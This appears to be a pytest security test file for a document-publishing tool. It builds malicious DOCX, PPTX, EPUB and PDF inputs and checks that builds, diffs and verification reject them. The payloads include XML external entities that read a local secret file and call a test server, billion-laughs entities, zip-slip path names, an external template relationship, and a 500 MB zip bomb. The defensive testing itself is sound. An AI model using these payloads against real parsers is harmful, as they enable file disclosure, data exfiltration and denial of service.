"""Templates, edited files and finished files that somebody made to harm whoever opens them."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest

from publish.backends.package import parts
from publish.layouts import shipped
from trust.conftest import Server, post, publish, write
from trust.leaks import leaks

LAUGHS = b'<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
STYLES = "word/styles.xml"


def packed(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in files.items():
            package.writestr(name, content)
    return buffer.getvalue()


def zeros(files: dict[str, bytes], size: int) -> bytes:
    """An archive with a part that unfolds to so much."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in files.items():
            package.writestr(name, content)
        with package.open("word/media/zeros.bin", "w", force_zip64=True) as part:
            for _ in range(size // 10_000_000):
                part.write(bytes(10_000_000))
    return buffer.getvalue()


def hostile(suffix: str, server: str, secret: Path) -> dict[str, bytes]:
    """Templates, each with one thing that should not be there."""
    own = parts((shipped() / "default" / f"reference.{suffix}").read_bytes())
    main = STYLES if suffix == "docx" else "ppt/presentation.xml"
    declared = own[main].partition(b"?>")
    entity = f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{secret}"><!ENTITY % y SYSTEM "{server}/a.dtd"> %y;]>'.encode()
    outside = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
        b' Target="' + server.encode() + b'/t.dotm" TargetMode="External"/></Relationships>'
    )
    return {
        "entities": packed(own | {main: declared[0] + b"?>" + LAUGHS + declared[2]}),
        "external": packed(own | {main: declared[0] + b"?>" + entity + declared[2]}),
        "slip": packed(
            own
            | {
                "../../../../escaped.xml": b"<a/>",
                "/tmp/escaped.xml": b"<a/>",
                "..\\escaped.xml": b"<a/>",
            }
        ),
        "template": packed(own | {"word/_rels/settings.xml.rels": outside}),
        "macros": packed(own | {"word/vbaProject.bin": b"macro"}),
        "bomb": zeros(own, 500_000_000),
        "files": packed(own | {f"word/media/{at}.bin": b"" for at in range(21_000)}),
        "torn": packed(own)[:-400],
        "deep": packed(own | {main: b"<a>" * 100_000 + b"</a>" * 100_000}),
        "none": b"PK\x05\x06" + bytes(18),
        "text": b"no archive",
    }


@pytest.mark.parametrize("suffix", ["docx", "pptx"])
def test_no_template_harms_or_is_passed_on(root: Path, server: Server, suffix: str) -> None:
    """Zip bombs, names that climb, entities, macros, and templates that would be fetched by Word."""
    made = hostile(suffix, server.address, root.parent / "secret.txt")
    write(
        root, {f"{name}.{suffix}": data for name, data in made.items()} | {"a.md": post("Words.")}
    )
    targets = "".join(
        f'[targets.{name}]\nformat = "{suffix}"\nreference = "{name}.{suffix}"\noutput = "{name}/{{slug}}"\n'
        for name in made
    )
    listed = ", ".join(f'"{name}"' for name in made)
    write(
        root, {"publish.toml": f'[documents.post]\neach = "a.md"\ntargets = [{listed}]\n{targets}'}
    )
    server.requests.clear()
    built = publish(root, "build", "--json", "-j", "2", timeout=600)
    assert server.requests == []
    assert leaks(root / "build") == []
    assert not list(root.parent.rglob("*escaped*"))
    for path in (root / "build").rglob(f"*.{suffix}"):
        with zipfile.ZipFile(path) as package:
            for name in package.namelist():
                assert ".." not in name
                assert not name.startswith("/")
                assert "vba" not in name.lower()
                assert server.address.encode() not in package.read(name)
    refused = {item["target"] for item in built.report["made"]}
    assert not refused & {"entities", "external", "bomb", "files", "torn", "none", "text"}


def test_no_edited_file_harms_publish_diff(root: Path, server: Server) -> None:
    """A file that comes back from a reviewer."""
    write(root, {"a.md": post("Words.")})
    publish(root, "build", "a.md", "-f", "docx", "-j", "1")
    own = parts((root / "a.docx").read_bytes())
    secret = root.parent / "secret.txt"
    entity = f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{secret}">]>'.encode()
    body = own["word/document.xml"]
    custom = own["docProps/custom.xml"]
    custom = custom[custom.index(b"<Prop") :]
    start = body.index(b"<w:document")
    edited = {
        "entity": packed(own | {"word/document.xml": entity + body[start:].replace(b"Words", b"&x;")}),
        "laughs": packed(own | {"word/document.xml": LAUGHS + body[start:].replace(b"Words", b"&b;")}),
        "custom": packed(own | {"docProps/custom.xml": entity + custom.replace(b"a.md", b"&x;")}),
        "deep": packed(own | {"word/document.xml": body.replace(b"<w:body>", b"<w:body>" + b"<w:p>" * 50_000)}),
        "nested": packed(own | {"word/document.xml": body.replace(
            b"<w:body>", b"<w:body>" + b"<w:sdt><w:sdtContent>" * 3_000 + b"</w:sdtContent></w:sdt>" * 3_000)}),
        "bomb": zeros(own, 500_000_000),
        "torn": packed(own)[:500],
    }  # fmt: skip
    for name, data in edited.items():
        (root / f"{name}.docx").write_bytes(data)
        told = publish(root, "diff", f"{name}.docx", timeout=120)
        assert "CANARY" not in told.said, name
    assert server.requests == [] or not [path for path in server.requests if "diff" in path]


def test_no_finished_file_harms_publish_verify(root: Path, server: Server) -> None:
    """Outputs that somebody else put in their place."""
    write(root, {"a.md": post("Words."), "publish.toml": (
        '[documents.post]\neach = "a.md"\ntargets = ["html", "pdf", "epub", "docx", "pptx"]\n'
    )})  # fmt: skip
    publish(root, "build", "-j", "1")
    files = {path.suffix[1:]: path for path in (root / "build").rglob("a.*")}
    good = {suffix: path.read_bytes() for suffix, path in files.items()}
    secret = root.parent / "secret.txt"
    entity = f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{secret}"><!ENTITY y SYSTEM "{server.address}/v">]>'.encode()
    worse: dict[str, list[bytes]] = {
        "html": [b"<div>" * 20_000, b"<" * 500_000, b"", b"\0" * 1000, b"<svg>" * 5_000],
        "pdf": [good["pdf"][:-2000], b"%PDF-1.7\n" + b"[" * 100_000, b""],
        "epub": [zeros(parts(good["epub"]), 2_100_000_000), packed({"mimetype": b"x"}), b"PK"],
        "docx": [
            packed(parts(good["docx"]) | {"word/document.xml": entity + b"<a>&x;&y;</a>"}),
            b"PK",
        ],
        "pptx": [packed(parts(good["pptx"]) | {"ppt/presentation.xml": b"<a>" * 100_000}), b"PK"],
    }
    server.requests.clear()
    for at in range(max(map(len, worse.values()))):
        for suffix, contents in worse.items():
            files[suffix].write_bytes(contents[min(at, len(contents) - 1)])
        told = publish(root, "verify", "--quick", timeout=300)
        assert told.code == 1
        assert "CANARY" not in told.said
    assert server.requests == []
